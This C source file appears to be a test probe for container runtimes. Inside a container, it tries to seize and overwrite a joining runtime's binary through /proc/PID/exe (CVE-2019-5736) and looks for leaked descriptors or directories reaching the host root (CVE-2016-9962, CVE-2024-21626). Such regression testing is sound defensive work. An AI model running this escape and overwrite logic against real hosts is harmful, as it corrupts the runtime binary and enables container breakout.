/* SPDX-License-Identifier: Apache-2.0 */
/*
 * grab SECONDS [INODE...]: in a container, waits for a process that runs a program which isn't there (a runtime that
 * has joined), takes hold of that program by /proc/PID/exe, and tries to write to it when it has ended (CVE-2019-5736).
 * The programs with these inodes are no prey. It looks at descriptors by /proc/PID/fd and at the directories
 * /proc/PID/cwd and root, too (CVE-2016-9962, CVE-2024-21626).
 *
 * Prints what it gets, once each: "held" (the program, not to write; none that is sealed), "written", "descriptor
 * TARGET" (of a file system that the container doesn't have). Then "end".
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <dirent.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define HELD_MAX 64

static struct stat own, box, root;
static char **others;
static int held[HELD_MAX], n_held, written, told_fd, told_held;

static int same(const struct stat *a, const struct stat *b)
{
	return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

static int is_other(const struct stat *st)
{
	for (char **i = others; *i; i++)
		if (strtoull(*i, NULL, 10) == st->st_ino)
			return 1;
	return 0;
}

/* What executes the programs of containers, and a copy of the runtime: files in memory that are sealed. */
static int is_sealed(int held_fd)
{
	char path[64];
	int fd, seals;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", held_fd);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	seals = fd < 0 ? -1 : fcntl(fd, F_GET_SEALS);

	if (fd >= 0)
		close(fd);
	return seals >= 0 && (seals & F_SEAL_WRITE);
}

static void hold_program(const char *pid)
{
	char path[64];
	struct stat st;
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return;
	if (fstat(fd, &st) < 0 || same(&st, &own) || same(&st, &box) || is_other(&st) || n_held == HELD_MAX) {
		close(fd);
		return;
	}
	if (!told_held && !is_sealed(fd)) {
		printf("held\n");
		told_held = 1;
	}
	held[n_held++] = fd;
}

static void write_programs(void)
{
	for (int i = 0; i < n_held && !written; i++) {
		char path[64];
		int fd;

		snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i]);
		fd = open(path, O_WRONLY);
		if (fd < 0)
			continue;
		written = write(fd, "#!/attacker\n", 12) == 12;
		if (written)
			printf("written\n");
		close(fd);
	}
}

/* A directory from which ".." leads to a root that is not ours. */
static int leads_out(const char *path)
{
	int fd = open(path, O_RDONLY | O_DIRECTORY | O_NONBLOCK | O_CLOEXEC), up;
	struct stat here, above = {0};
	int out = 0;

	for (int i = 0; fd >= 0 && i < 64; i++) {
		if (fstat(fd, &here) < 0 || same(&here, &root))
			break;
		up = openat(fd, "..", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
		if (up < 0 || fstat(up, &above) < 0)
			break;
		close(fd);
		fd = up;
		if (same(&here, &above)) {
			/* A root that does not hang anywhere here: the host's? The containers of the tests have no such
			 * file. */
			out = faccessat(fd, "etc/shadow", F_OK, 0) == 0;
			break;
		}
	}
	if (fd >= 0)
		close(fd);
	return out;
}

static void look_at_descriptors(const char *pid)
{
	char path[64], link[PATH_MAX], name[PATH_MAX + 64];
	struct dirent *e;
	ssize_t n;
	DIR *d;

	snprintf(path, sizeof(path), "/proc/%s/fd", pid);
	d = opendir(path);
	while (d && !told_fd && (e = readdir(d))) {
		if (e->d_name[0] == '.' || atoi(e->d_name) < 3)
			continue;
		snprintf(name, sizeof(name), "%s/%s", path, e->d_name);
		n = readlink(name, link, sizeof(link) - 1);
		if (n <= 0)
			continue;
		link[n] = '\0';
		if (link[0] == '/' && leads_out(name)) {
			printf("descriptor %s\n", link);
			told_fd = 1;
		}
	}
	if (d)
		closedir(d);
}

static void look_at_directories(const char *pid)
{
	static const char *const links[] = {"cwd", "root"};
	char path[64];

	for (int i = 0; i < 2 && !told_fd; i++) {
		snprintf(path, sizeof(path), "/proc/%s/%s", pid, links[i]);
		if (leads_out(path)) {
			printf("descriptor %s\n", links[i]);
			told_fd = 1;
		}
	}
}

static void look(void)
{
	DIR *d = opendir("/proc");
	struct dirent *e;

	while (d && (e = readdir(d))) {
		if (e->d_name[0] < '1' || e->d_name[0] > '9' || atoi(e->d_name) == getpid() || atoi(e->d_name) == 1)
			continue;
		hold_program(e->d_name);
		look_at_descriptors(e->d_name);
		look_at_directories(e->d_name);
	}
	if (d)
		closedir(d);
}

int main(int argc, char **argv)
{
	time_t end = time(NULL) + (argc > 1 ? atol(argv[1]) : 1);

	others = argv + (argc > 1 ? 2 : 1);
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (stat("/proc/self/exe", &own) < 0 || stat("/bin/busybox", &box) < 0 || stat("/", &root) < 0)
		return 1;
	printf("begin\n");
	while (time(NULL) < end) {
		look();
		write_programs();
	}
	/* Whoever ran it has ended by now. */
	sleep(1);
	write_programs();
	printf("end\n");
	return 0;
}
